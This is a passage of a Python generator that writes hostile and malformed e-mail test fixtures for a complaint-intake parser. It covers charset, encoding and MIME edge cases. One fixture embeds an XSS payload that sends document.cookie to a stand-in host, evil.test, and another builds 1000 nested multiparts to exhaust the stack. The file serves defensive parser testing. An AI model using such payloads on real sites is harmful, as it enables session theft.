#!/usr/bin/env python3
"""Writes the hostile e-mail corpus (NN-name.eml) and MANIFEST.tsv, byte for byte.

Run from anywhere: `python3 generate.py`. Deterministic (seeded random), so running it
again reproduces the same bytes. Standard library only.

Every message is composed with "\n" line ends and converted at write time
(eol="crlf" | "lf"), except the cases that write exact bytes (eol="raw").
"""

import base64
import os
import quopri
import random
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
RNG = random.Random(20250106)
CASES = []  # (file, expect, contains, note)
N = [0]


def case(name, data, expect, contains, note, eol="crlf"):
    N[0] += 1
    fname = f"{N[0]:02d}-{name}.eml"
    if isinstance(data, str):
        data = data.encode("ascii")  # strict: non-ASCII must be encoded deliberately
    if eol == "crlf":
        assert b"\r" not in data, fname
        data = data.replace(b"\n", b"\r\n")
    elif eol == "lf":
        assert b"\r" not in data, fname
    else:
        assert eol == "raw"
    with open(os.path.join(HERE, fname), "wb") as f:
        f.write(data)
    assert "\t" not in contains and "\n" not in contains and "\t" not in note
    assert expect in ("complaint", "ignored", "complaint_or_quarantine")
    CASES.append((fname, expect, contains, note))
    return fname


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data)  # 76-column lines, "\n" ends


def bword(text, charset, codec=None, maxlen=75):
    """RFC 2047 B encoded words (list), each self-contained and at most maxlen long."""
    codec = codec or charset
    words, chunk = [], ""
    for ch in text:
        trial = chunk + ch
        w = f"=?{charset}?B?{base64.b64encode(trial.encode(codec)).decode()}?="
        if len(w) > maxlen and chunk:
            words.append(f"=?{charset}?B?{base64.b64encode(chunk.encode(codec)).decode()}?=")
            chunk = ch
        else:
            chunk = trial
    if chunk:
        words.append(f"=?{charset}?B?{base64.b64encode(chunk.encode(codec)).decode()}?=")
    return words


def qenc(raw: bytes) -> str:
    out = []
    for b in raw:
        c = chr(b)
        if b == 0x20:
            out.append("_")
        elif c.isascii() and (c.isalnum() or c in "!*+-/"):
            out.append(c)
        else:
            out.append(f"={b:02X}")
    return "".join(out)


def qword(text, charset, codec=None, maxlen=75):
    codec = codec or charset
    words, chunk = [], ""
    for ch in text:
        trial = chunk + ch
        if len(f"=?{charset}?Q?{qenc(trial.encode(codec))}?=") > maxlen and chunk:
            words.append(f"=?{charset}?Q?{qenc(chunk.encode(codec))}?=")
            chunk = ch
        else:
            chunk = trial
    if chunk:
        words.append(f"=?{charset}?Q?{qenc(chunk.encode(codec))}?=")
    return words


def fold(words):
    return "\n ".join(words)


DAY = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


def date(n):
    # 6 Jan 2025 was a Monday
    d = 6 + n % 20
    return f"{DAY[(d - 6) % 7]}, {d:02d} Jan 2025 {7 + n % 12:02d}:{(n * 7) % 60:02d}:{(n * 13) % 60:02d} +0700"


def mid(tag):
    return f"<{tag}.{RNG.randrange(10**9, 10**10)}@warga.test>"


def head(n, frm, subject, extra="", to="pengaduan@aduan.test", msgid=None, ctype=None,
         cte=None, mime=True):
    """Common header block (str, "\n" ends, no blank line at the end)."""
    lines = [f"From: {frm}", f"To: {to}", f"Subject: {subject}", f"Date: {date(n)}",
             f"Message-ID: {msgid or mid(f'c{n:02d}')}"]
    if mime:
        lines.append("MIME-Version: 1.0")
    if ctype:
        lines.append(f"Content-Type: {ctype}")
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    if extra:
        lines.extend(extra.strip("\n").split("\n"))
    return "\n".join(lines) + "\n"


def png(w=2, h=2):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + b"\xcc\x22\x22" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def pdf():
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f"{i} 0 obj\n".encode() + o + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for o in offs:
        out += f"{o:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


PNG = png()
PDF = pdf()
ACK_QUOTE = ("> Terima kasih. Laporan Anda telah kami terima dengan nomor 7KQM-3XW0.\n"
             "> Status laporan dapat dilihat di https://aduan.test/laporan/7KQM-3XW0\n")

# ---------------------------------------------------------------- baseline
n = 1
case("baseline-plain", head(n, "Budi Santoso <budi.santoso@warga.test>", "Air PDAM mati sudah 3 hari",
     ctype="text/plain; charset=UTF-8", cte="7bit") + """
Selamat pagi Bapak/Ibu,

Air PDAM di RT 03/RW 05 Kelurahan Sukamaju sudah mati sejak hari Senin.
Kami sudah menelepon call center tetapi belum ada petugas yang datang.
Mohon segera ditindaklanjuti.

Hormat saya,
Budi Santoso
""", "complaint", "Kelurahan Sukamaju", "control: plain ASCII text/plain, CRLF")

# ---------------------------------------------------------------- charsets
n += 1
body = ("Yth. PDAM Kota,\n\n"
        "Tagihan air bulan Desember saya \u201cRp 1.250.000\u201d \u2013 padahal rumah kosong\u2026\n"
        "Petugas bilang \u2018meteran rusak\u2019 tapi tidak pernah diganti. "
        "Di Belanda tarifnya cuma 2 \u20ac per m\u00b3 \u2014 di sini jauh lebih mahal.\n\n"
        "Terima kasih,\nMaria Ulfa\n")
case("cp1252-labelled-latin1",
     head(n, "Maria Ulfa <maria.ulfa@warga.test>", "Tagihan PDAM tidak wajar",
          ctype="text/plain; charset=ISO-8859-1", cte="8bit").encode() + b"\n" + body.encode("cp1252"),
     "complaint", "tidak pernah diganti",
     "windows-1252 bytes 0x80-0x9F (curly quotes, euro, dashes) labelled ISO-8859-1")

n += 1
jp_body = ("\u62dd\u5553\n"
           "\u5357\u30b8\u30e3\u30ab\u30eb\u30bf\u306e\u30af\u30d0\u30e8\u30e9\u30f3\u30fb\u30d0\u30eb\u5730\u533a\u306b\u4f4f\u3093\u3067\u3044\u308b\u7530\u4e2d\u3067\u3059\u3002\n"
           "\u4e09\u65e5\u524d\u304b\u3089\u6c34\u9053\u304c\u6b62\u307e\u3063\u3066\u3044\u307e\u3059\u3002\n"
           "PDAM\u306b\u96fb\u8a71\u3057\u307e\u3057\u305f\u304c\u3001\u3064\u306a\u304c\u308a\u307e\u305b\u3093\u3002\n"
           "\u65e9\u6025\u306b\u5bfe\u5fdc\u3092\u304a\u9858\u3044\u3057\u307e\u3059\u3002\n"
           "\u7530\u4e2d \u592a\u90ce\n")
jp_bytes = b"".join(line.encode("iso2022_jp") + b"\n" for line in jp_body.split("\n")[:-1])
assert max(jp_bytes) < 0x80
case("iso-2022-jp",
     head(n, f"{bword('田中 太郎', 'ISO-2022-JP', 'iso2022_jp')[0]} <tanaka.taro@warga.test>",
          fold(bword("断水について（南ジャカルタ）", "ISO-2022-JP", "iso2022_jp")),
          ctype="text/plain; charset=ISO-2022-JP", cte="7bit").encode() + b"\n" + jp_bytes,
     "complaint", "水道が止まって", "ISO-2022-JP body and B-encoded subject/From (Japanese)")

n += 1
cn_body = ("您好，\n"
           "我家门口（棉兰市 Jalan Gatot Subroto）的路灯已经两个星期不亮了。\n"
           "晚上很黑，很危险，已经有人摔倒了。请尽快派人修理。\n"
           "谢谢！\n林伟\n")
case("gb2312",
     head(n, f"{bword('林伟', 'GB2312', 'gb2312')[0]} <lim.wei@warga.test>",
          fold(bword("路灯两个星期不亮", "GB2312", "gb2312")),
          ctype='text/plain; charset="gb2312"', cte="base64").encode() + b"\n" + b64(cn_body.encode("gb2312")),
     "complaint", "很危险", "GB2312 (Chinese), base64 body, B-encoded subject/From")

n += 1
ru_body = ("Здравствуйте!\n\n"
           "Я живу в Денпасаре, улица Jalan Teuku Umar. Уже четыре дня нет воды из крана (PDAM).\n"
           "Прошу срочно решить проблему.\n\n"
           "С уважением,\nИван Петров\n")
case("koi8-r",
     head(n, f"{qword('Иван Петров', 'KOI8-R', 'koi8_r')[0]} <ivan.petrov@warga.test>",
          fold(qword("Нет воды уже четыре дня", "KOI8-R", "koi8_r")),
          ctype="text/plain; charset=KOI8-R", cte="8bit").encode() + b"\n" + ru_body.encode("koi8_r"),
     "complaint", "нет воды из крана", "KOI8-R 8bit body, Q-encoded subject/From (Russian), LF line ends",
     eol="lf")

n += 1
case("utf8-bom",
     head(n, "Rina Marlina <rina.marlina@warga.test>", "KTP belum jadi",
          ctype="text/plain; charset=utf-8", cte="8bit").encode() + b"\n" +
     ("\ufeffSelamat siang,\n\nKTP elektronik saya belum jadi padahal sudah rekam di Disdukcapil "
      "sejak Agustus 2024. Setiap ditanya jawabannya selalu \u201cblangko habis\u201d.\n\n"
      "Rina Marlina\n").encode("utf-8"),
     "complaint", "Disdukcapil", "UTF-8 body starting with a byte-order mark")

n += 1
case("unknown-charset",
     head(n, "Wawan Setiawan <wawan.setiawan@warga.test>", "=?x-unknown-foo?Q?Bansos_belum_cair?=",
          ctype='text/plain; charset="x-unknown-foo"', cte="8bit").encode() + b"\n" +
     ("Bantuan sosial (bansos) untuk ibu saya belum cair sejak Oktober \u2013 sudah lapor ke "
      "pendamping PKH tapi tidak ada jawaban.\n\nWawan\n").encode("utf-8"),
     "complaint", "pendamping PKH", "charset x-unknown-foo on body and on an encoded-word subject")

n += 1
qp_lines = [
    "Yth. Dinas Sosial,",
    "",
    "Ibu saya (lansia, 72 tahun) sudah terdaftar di DTKS tapi Kartu Keluarga =",
    "Seja=",
    "htera miliknya diblokir sejak November. Saldo tidak bisa diambil di agen=",
    " BRILink. Petugas bilang =E2=80=9Cdata ganda=E2=80=9D, padahal NIK cuma sa=",
    "tu. Mohon dicek, kode keluhan=3D12/XI.=20",
    "",
    "Terima kasih,",
    "Dewi Anggraini",
]
qp_raw = "\n".join(qp_lines) + "\n"
qp_decoded = quopri.decodestring(qp_raw.encode()).decode("utf-8")
assert "Kartu Keluarga Sejahtera miliknya" in qp_decoded, qp_decoded
assert "Sejahtera" not in qp_raw and "NIK cuma satu" in qp_decoded and "keluhan=12/XI." in qp_decoded
assert all(len(l) <= 76 for l in qp_lines)
case("quoted-printable-soft-breaks",
     head(n, "Dewi Anggraini <dewi.anggraini@warga.test>", "KKS ibu saya diblokir",
          ctype="text/plain; charset=utf-8", cte="quoted-printable") + "\n" + qp_raw,
     "complaint", "Kartu Keluarga Sejahtera", "quoted-printable, soft line breaks inside a word, =E2=80=9C, =3D")

n += 1
case("base64-text-body",
     head(n, "Agus Salim <agus.salim@warga.test>", "Jalan rusak di Cibiru",
          ctype="text/plain; charset=UTF-8", cte="base64") + "\n" +
     b64(("Jalan di depan SDN 2 Cibiru berlubang besar \u2014 diameter \u00b11,5 meter. "
          "Sudah tiga motor jatuh minggu ini. Mohon segera ditambal sebelum musim hujan.\n\n"
          "Agus Salim\n").encode("utf-8")).decode(),
     "complaint", "tiga motor jatuh", "base64-encoded UTF-8 text/plain body")

# ---------------------------------------------------------------- RFC 2047
n += 1
case("rfc2047-b-utf8-subject-q-latin1-from",
     head(n, "=?ISO-8859-1?Q?D=E9d=E9_Suhendar?= <dede.suhendar@warga.test>",
          fold(bword("Lampu jalan mati \u2013 Gang Kenari \U0001F621", "UTF-8", "utf-8")),
          ctype="text/plain; charset=utf-8", cte="7bit") + """
Sudah dua minggu gelap total setelah jam 6 sore, rawan begal.
Tiang nomor 14 dan 15 yang mati.
""", "complaint", "Gang Kenari", "B-encoded UTF-8 subject with emoji; Q-encoded ISO-8859-1 display name")

n += 1
case("rfc2047-q-latin1-subject-b-utf8-from",
     head(n, f"{bword('Enéng Kurniasih', 'UTF-8', 'utf-8')[0]} <eneng.k@warga.test>",
          fold(qword("Pelayanan kecamatan: disuruh «besok saja» tiga kali", "iso-8859-1", "latin-1")).replace("?Q?", "?q?"),
          ctype="text/plain; charset=us-ascii", cte="7bit") + """
Saya mengurus surat pindah di kantor kecamatan. Sudah datang tiga kali,
jawaban petugas selalu sama. Tolong diperbaiki pelayanannya.
""", "complaint", "«besok saja»", "lower-case q-encoded ISO-8859-1 subject (guillemets); B-encoded UTF-8 From")

n += 1
case("rfc2047-adjacent-words",
     head(n, "=?UTF-8?B?RMM=?= =?UTF-8?B?qWTDqSBTdWhlbmRhcg==?= <dede.s@warga.test>",
          "PENTING =?UTF-8?B?TGFtcHUgcGVuZQ==?=\n =?UTF-8?Q?rangan_jalan_padam?=   =?utf-8?b?IGRpIEpsLiBNYXdhcg==?=",
          ctype="text/plain; charset=utf-8", cte="7bit") + """
Sejak Jumat malam seluruh tiang di sepanjang Jl. Mawar gelap.
Anak-anak pulang mengaji lewat situ.
""", "complaint", "PENTING Lampu penerangan jalan padam di Jl. Mawar",
     "adjacent encoded words (folded, whitespace between must vanish), a UTF-8 char split across two words in From")

n += 1
case("rfc2047-malformed",
     head(n, "=?UTF-8?B?!!!bukan-base64?= <asep.sunandar@warga.test>",
          "=?UTF-8?B?VGlhbmcgbGlzdHJpaw?= =?UTF-8?X?cm9ib2g=?= =?bogus-cs?Q?pasar?= =?UTF-8?Q?tidak_ditutup",
          ctype="text/plain; charset=utf-8", cte="7bit") + """
Tiang listrik miring hampir roboh di depan Pasar Kosambi, kabelnya menjuntai
sampai ke jalan. Sangat berbahaya untuk pedagang dan pembeli.
""", "complaint", "Pasar Kosambi",
     "malformed encoded words: missing padding, unknown encoding X, unknown charset, unterminated; bad B in From")

# ---------------------------------------------------------------- MIME structure
n += 1
case("boundary-never-appears",
     head(n, "Yudi Hermawan <yudi.hermawan@warga.test>", "Jalan desa putus karena longsor",
          ctype='multipart/mixed; boundary="==DECLARED-abc123=="') + """
This is a multi-part message in MIME format.

--==OTHER-xyz999==
Content-Type: text/plain; charset=utf-8

Jalan ke Desa Sukaresmi putus total karena longsor tadi malam.
Warga tidak bisa membawa hasil panen ke pasar.

--==OTHER-xyz999==--
""", "complaint_or_quarantine", "longsor",
     "multipart boundary declared but never used (the text is all preamble)")

n += 1
case("missing-closing-boundary",
     head(n, "Lina Marlina <lina.marlina@warga.test>", "Sampah tidak diangkut",
          ctype='multipart/mixed; boundary="b1-missing-close"') + """
--b1-missing-close
Content-Type: text/plain; charset=utf-8

Sampah di TPS Jalan Kopo sudah dua minggu tidak diangkut, baunya sampai ke
rumah warga. Foto terlampir.

--b1-missing-close
Content-Type: image/png; name="tps.png"
Content-Disposition: attachment; filename="tps.png"
Content-Transfer-Encoding: base64

""" + b64(PNG).decode(), "complaint", "TPS Jalan Kopo",
     "multipart without the closing --boundary--; file ends inside the last part")

n += 1
case("no-content-type",
     head(n, "Hendra Gunawan <hendra.gunawan@warga.test>", "Got mampet", mime=False) + """
Selokan di Gang Sukarasa mampet, setiap hujan air masuk rumah warga.
Mohon dikirim petugas kebersihan.
""", "complaint", "Gang Sukarasa", "no MIME-Version, no Content-Type (defaults to text/plain us-ascii), LF line ends",
     eol="lf")

n += 1
case("no-message-id",
     "\n".join(l for l in head(n, "Siti Rahayu <siti.rahayu@warga.test>", "Bantuan sosial tidak tepat sasaran",
                              ctype="text/plain; charset=utf-8").split("\n") if not l.startswith("Message-ID")) + """
Tetangga saya yang punya mobil dapat BLT, sementara janda di RT kami tidak dapat.
Mohon data penerima bantuan diperiksa ulang.
""", "complaint", "janda di RT kami", "no Message-ID (external id must be derived from the content)")

n += 1
case("no-date",
     "\n".join(l for l in head(n, "Joko Susilo <joko.susilo@warga.test>", "Lampu jalan berkedip",
                              ctype="text/plain; charset=utf-8").split("\n") if not l.startswith("Date")) + """
Lampu jalan di perempatan Jl. Merdeka berkedip terus sejak seminggu lalu,
bikin silau pengendara.
""", "complaint", "perempatan Jl. Merdeka", "no Date header")

n += 1
case("no-from",
     "\n".join(l for l in head(n, "x", "KTP hilang, urus ulang dipersulit",
                              ctype="text/plain; charset=utf-8").split("\n") if not l.startswith("From")) + """
Saya kehilangan KTP, sudah bawa surat kehilangan dari polsek tapi di kelurahan
disuruh kembali minggu depan terus.
""", "complaint_or_quarantine", "surat kehilangan",
     "no From header at all (nobody to answer)")

n += 1
case("raw-8bit-latin1-headers",
     b"From: D\xe9d\xe9 Suhendar <dede.suhendar2@warga.test>\n"
     b"To: pengaduan@aduan.test\n"
     b"Subject: Jalan rusak depan caf\xe9 Kopi Ujang\n" +
     f"Date: {date(n)}\nMessage-ID: {mid('c20')}\n".encode() +
     b"MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
     b"Aspal di Jalan Raya Cileunyi dekat warung kopi mengelupas sepanjang 50 meter.\n",
     "complaint", "Jalan Raya Cileunyi", "raw unencoded Latin-1 bytes (0xE9) in From and Subject")

n += 1
case("invalid-base64-attachment",
     head(n, "Ujang Rahmat <ujang.rahmat@warga.test>", "Jembatan retak",
          ctype='multipart/mixed; boundary="inv64"') + """
--inv64
Content-Type: text/plain; charset=utf-8

Jembatan di Kampung Babakan retak di tengah, truk masih lewat setiap hari.

--inv64
Content-Type: image/jpeg; name="jembatan.jpg"
Content-Disposition: attachment; filename="jembatan.jpg"
Content-Transfer-Encoding: base64

/9j/4AAQSkZJRgABAQ!!!!@@@@ ini bukan base64 $$$$
=AAAA=BBBB===
%%%%%%%%%%%%
--inv64--
""", "complaint", "Kampung Babakan", "attachment with invalid base64 (the text part must survive)")

n += 1
inner = (f"From: Harun Al Rasyid <harun@warga.test>\nTo: Ahmad Fauzi <ahmad.fauzi@warga.test>\n"
         f"Subject: Beras bansos berkutu\nDate: {date(40)}\nMessage-ID: {mid('inner22')}\n"
         "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
         + b64("Beras bantuan yang dibagikan di Balai Desa Cikoneng berkutu dan berbau apek.\n".encode()).decode())
case("forwarded-rfc822",
     head(n, "Ahmad Fauzi <ahmad.fauzi@warga.test>", "Fwd: Beras bansos berkutu",
          ctype='multipart/mixed; boundary="fwd-outer"') + """
--fwd-outer
Content-Type: text/plain; charset=utf-8

Saya teruskan pengaduan tetangga saya, Pak Harun, yang tidak bisa mengirim
e-mail ke alamat ini. Mohon ditindaklanjuti.

--fwd-outer
Content-Type: message/rfc822
Content-Disposition: inline

""" + inner + "\n--fwd-outer--\n",
     "complaint", "tetangga saya, Pak Harun",
     "forwarded complaint as message/rfc822 (inner text: Balai Desa Cikoneng)")

n += 1
depth = 12
kinds = ["mixed", "alternative", "related"]
deep = ("Content-Type: text/plain; charset=utf-8\n\n"
        "Lampu jalan di depan pos ronda RW 07 mati, warga ronda dalam gelap.\n")
for i in reversed(range(depth)):
    bnd = f"lvl{i:02d}"
    deep = (f'Content-Type: multipart/{kinds[i % 3]}; boundary="{bnd}"\n\n'
            f"--{bnd}\n{deep}\n--{bnd}--\n")
case("deep-nesting-12",
     head(n, "Rudi Hartono <rudi.hartono@warga.test>", "Lampu mati dekat pos", mime=True) + deep,
     "complaint", "pos ronda RW 07", "text/plain 12 multipart levels deep")

n += 1
depth = 1000
top = []
for i in range(depth):
    top.append(f'Content-Type: multipart/mixed; boundary="d{i:04d}"\n\n--d{i:04d}\n')
mid_part = "Content-Type: text/plain\n\nJembatan gantung di Desa Cibodas putus.\n"
bottom = "".join(f"\n--d{i:04d}--\n" for i in reversed(range(depth)))
case("deep-nesting-1000",
     head(n, "Tono Sugiarto <tono.sugiarto@warga.test>", "Jembatan gantung putus") + "".join(top) + mid_part + bottom,
     "complaint_or_quarantine", "Jembatan gantung putus",
     "1000 nested multiparts: stack exhaustion bait; must neither crash nor hang")

n += 1
case("alternative-plain-html",
     head(n, "Nur Aini <nur.aini@warga.test>", "Antrean BPJS di Puskesmas",
          ctype='multipart/alternative; boundary="alt-1"') + """
--alt-1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Antrean di Puskesmas Cikutra dimulai jam 4 pagi, loket baru buka jam 8.
Banyak lansia pingsan menunggu.

--alt-1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<html><body><p>Antrean di <b>Puskesmas Cikutra</b> dimulai jam 4 pagi, loket baru buka jam 8.</p>
<p>Banyak lansia pingsan menunggu.</p></body></html>

--alt-1--
""", "complaint", "Puskesmas Cikutra", "multipart/alternative text/plain + text/html")

n += 1
case("html-only-script",
     head(n, "Fajar Nugraha <fajar.nugraha@warga.test>", "Keluhan",
          ctype="text/html; charset=utf-8", cte="7bit") + """
<!DOCTYPE html>
<html><head><title>Laporan</title>
<style>body{display:none} .warn{color:red} /* KODE-CSS-RAHASIA */</style>
<script type="text/javascript">alert('xss'); document.location='http://evil.test/?c='+document.cookie;</script>
</head>
<body onload="alert(2)">
<!-- komentar tersembunyi -->
<p class="warn">Trotoar di Jalan Dago rusak &amp; banyak lubang&nbsp;besar.</p>
<p>Pejalan kaki terpaksa turun ke jalan &#8212; sangat berbahaya.</p>
<img src="x" onerror="alert(document.domain)">
<a href="javascript:alert(3)">lihat foto</a>
<script>fetch('http://evil.test/steal')</script>
</body></html>
""", "complaint", "Trotoar di Jalan Dago",
     "HTML only, with <script>, <style>, onerror, javascript: link; script text must not reach the body")

n += 1
prefix = "Laporan kerusakan jalan Kabupaten Garut: "
parts = [prefix]
total = len(prefix)
i = 1
while total < 200_000:
    s = f"lubang di KM {i}; "
    parts.append(s)
    total += len(s)
    i += 1
line = "".join(parts)[:200_000]
assert len(line) == 200_000 and "\n" not in line
case("long-line-200k",
     head(n, "Iwan Kurniawan <iwan.kurniawan@warga.test>", "Daftar jalan rusak",
          ctype="text/plain; charset=us-ascii", cte="7bit") + "\n" + line + "\n",
     "complaint", "Laporan kerusakan jalan Kabupaten Garut",
     "one text/plain line of 200,000 characters (SMTP allows 998)")

n += 1
tnef = b"\x78\x9f\x3e\x22" + b"\x01\x00" + bytes(RNG.randrange(256) for _ in range(500))
case("tnef-winmail-dat",
     head(n, "Bambang Prakoso <bambang.prakoso@warga.test>", "Pipa PDAM bocor",
          ctype='multipart/mixed; boundary="_000_tnef_"',
          extra="X-MS-Has-Attach: yes\nX-MS-TNEF-Correlator: <tnef-corr-0001@warga.test>") + """
--_000_tnef_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Pipa PDAM di Jl. Soekarno-Hatta bocor, air terbuang ke selokan sejak kemari=
n.

--_000_tnef_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

""" + b64(tnef).decode() + "\n--_000_tnef_--\n",
     "complaint", "air terbuang ke selokan", "Outlook TNEF attachment winmail.dat")

n += 1
ics = """BEGIN:VCALENDAR
PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
UID:040000008200E00074C5B7101A82E0080000000010F2F2B0@warga.test
DTSTAMP:20250106T020000Z
DTSTART:20250110T020000Z
DTEND:20250110T040000Z
SUMMARY:Musyawarah warga: air bersih RW 05
LOCATION:Balai RW 05\\, Kelurahan Sukamaju
ORGANIZER;CN=Hendra Wijaya:mailto:hendra.wijaya@warga.test
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:pengaduan@aduan.test
DESCRIPTION:Sumur bor warga kering\\, mohon kehadiran petugas.
SEQUENCE:0
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR
"""
case("calendar-invite",
     head(n, "Hendra Wijaya <hendra.wijaya@warga.test>", "Undangan: Musyawarah warga soal air bersih",
          ctype='multipart/alternative; boundary="cal-alt"') + """
--cal-alt
Content-Type: text/plain; charset=utf-8

Sumur bor umum di RW 05 kering sejak bulan lalu dan air PDAM belum masuk.
Kami mengundang petugas hadir di musyawarah warga hari Jumat.

--cal-alt
Content-Type: text/calendar; charset=utf-8; method=REQUEST
Content-Transfer-Encoding: 7bit

""" + ics + "\n--cal-alt--\n",
     "complaint", "Sumur bor umum di RW 05", "calendar invite: text/calendar method=REQUEST with VEVENT (never auto-accept)")

n += 1
case("png-attachment",
     head(n, "Yanti Susanti <yanti.susanti@warga.test>", "Banjir di underpass",
          ctype='multipart/mixed; boundary="png-1"') + """
--png-1
Content-Type: text/plain; charset=utf-8

Underpass Jl. Pasteur banjir setinggi lutut tiap hujan, pompa tidak jalan. Foto terlampir.

--png-1
Content-Type: image/png; name="banjir.png"
Content-Disposition: attachment; filename="banjir.png"
Content-Transfer-Encoding: base64

""" + b64(PNG).decode() + "\n--png-1--\n",
     "complaint", "Underpass Jl. Pasteur", "valid 2x2 PNG attachment, base64")

n += 1
case("pdf-attachment",
     head(n, "Dedi Mulyadi <dedi.mulyadi@warga.test>", "Surat permohonan perbaikan jalan",
          ctype='multipart/mixed; boundary="pdf-1"') + """
--pdf-1
Content-Type: text/plain; charset=utf-8

Bersama ini kami lampirkan surat permohonan perbaikan jalan lingkungan RW 09
yang sudah ditandatangani ketua RT.

--pdf-1
Content-Type: application/pdf; name="surat-permohonan.pdf"
Content-Disposition: attachment; filename="surat-permohonan.pdf"
Content-Transfer-Encoding: base64

""" + b64(PDF).decode() + "\n--pdf-1--\n",
     "complaint", "jalan lingkungan RW 09", "small %PDF-1.4 attachment")

n += 1
case("inline-cid-image",
     head(n, "Sri Wahyuni <sri.wahyuni@warga.test>", "Pohon tumbang",
          ctype='multipart/related; boundary="rel-1"; type="multipart/alternative"') + """
--rel-1
Content-Type: multipart/alternative; boundary="alt-2"

--alt-2
Content-Type: text/plain; charset=utf-8

Pohon tumbang menutup Jl. Cipaganti sejak subuh. [foto]

--alt-2
Content-Type: text/html; charset=utf-8

<html><body><p>Pohon tumbang menutup <b>Jl. Cipaganti</b> sejak subuh.</p>
<p><img src="cid:foto-pohon@warga.test" alt="foto" width="2" height="2"></p></body></html>

--alt-2--

--rel-1
Content-Type: image/png
Content-ID: <foto-pohon@warga.test>
Content-Disposition: inline
Content-Transfer-Encoding: base64

""" + b64(PNG).decode() + "\n--rel-1--\n",
     "complaint", "Jl. Cipaganti", "multipart/related: HTML with <img src=cid:...>, inline PNG without a file name")

n += 1
case("empty-body",
     head(n, "Eko Prasetyo <eko.prasetyo@warga.test>", "Lampu jalan Jl. Melati mati semua",
          ctype='multipart/alternative; boundary="empty-1"') + """
--empty-1
Content-Type: text/plain; charset=utf-8


--empty-1
Content-Type: text/html; charset=utf-8

<html><body><div><br></div></body></html>

--empty-1--
""", "complaint", "Jl. Melati", "text/plain and text/html parts both empty: the subject is the complaint")

n += 1
case("subject-only",
     head(n, "Tuti Alawiyah <tuti.alawiyah@warga.test>", "Air PDAM keruh kecoklatan di Perumnas Sarijadi",
          mime=False) + "\n",
     "complaint", "Perumnas Sarijadi", "headers and a Subject, zero-length body")

n += 1
case("attachment-only",
     "\n".join(l for l in head(n, "Rahmat Hidayat <rahmat.hidayat@warga.test>", "",
                              ctype='multipart/mixed; boundary="only-att"').split("\n")
               if not l.startswith("Subject")) + """
--only-att
Content-Type: image/png; name="IMG_20250106_071522.png"
Content-Disposition: attachment; filename="IMG_20250106_071522.png"
Content-Transfer-Encoding: base64

""" + b64(PNG).decode() + "\n--only-att--\n",
     "complaint_or_quarantine", "-", "no Subject, no text: only a photo attachment")

n += 1
case("nothing-at-all",
     f"From: Anon <anon.warga@warga.test>\nTo: pengaduan@aduan.test\nDate: {date(n)}\n"
     f"Message-ID: {mid('c37')}\n\n",
     "complaint_or_quarantine", "-", "no Subject and no body (title and body both empty)")

n += 1
case("nul-bytes-in-body",
     head(n, "Asih Lestari <asih.lestari@warga.test>", "Drainase meluap",
          ctype="text/plain; charset=utf-8", cte="8bit").encode() + b"\n"
     b"Drainase di Jl. Sukajadi meluap\x00\x00 setiap hujan deras.\x00\nAir masuk ke 20 rumah.\x01\x1b[31m\n",
     "complaint", "Air masuk ke 20 rumah", "NUL and control bytes inside text/plain (PostgreSQL text rejects NUL)")

n += 1
case("mixed-line-endings",
     (head(n, "Imas Masitoh <imas.masitoh@warga.test>", "Kabel listrik menjuntai",
           ctype="text/plain; charset=utf-8").replace("\n", "\r\n", 3) + "\n"
      + "Kabel PLN menjuntai rendah\rdi Gang Haji Gofur,\r\nbisa tersangkut truk.\nMohon dirapikan.\r").encode(),
     "complaint", "Gang Haji Gofur", "CRLF, bare LF and bare CR mixed in headers and body", eol="raw")

n += 1
case("duplicate-headers",
     head(n, "Arif Budiman <arif.budiman@warga.test>", "Pungli di kelurahan",
          ctype="text/plain; charset=utf-8",
          extra="Subject: Pungutan liar pembuatan KK\nFrom: Arif B <arif.b@warga.test>\nContent-Type: text/html") + """
Untuk membuat Kartu Keluarga baru saya dimintai uang Rp 200.000 oleh oknum
di kantor kelurahan, tanpa kuitansi.
""", "complaint", "tanpa kuitansi", "Subject, From and Content-Type each appear twice")

n += 1
case("loop-words-in-body",
     head(n, "Wulan Sari <wulan.sari@warga.test>", "Balasan otomatis terus, laporan tidak ditanggapi",
          ctype="text/plain; charset=utf-8") + """
Setiap saya kirim laporan soal lampu jalan mati di Jl. Kenanga, saya hanya dapat
balasan otomatis berisi:

  Auto-Submitted: auto-replied
  Precedence: bulk
  From: MAILER-DAEMON@aduan.test

Sudah tiga kali. Tolong ada manusia yang membaca.
""", "complaint", "lampu jalan mati di Jl. Kenanga",
     "loop-header words only inside the body: still a complaint")

# ---------------------------------------------------------------- loop safety (ignored)
OOO = """Terima kasih atas e-mail Anda. Saya sedang cuti sampai 20 Januari 2025
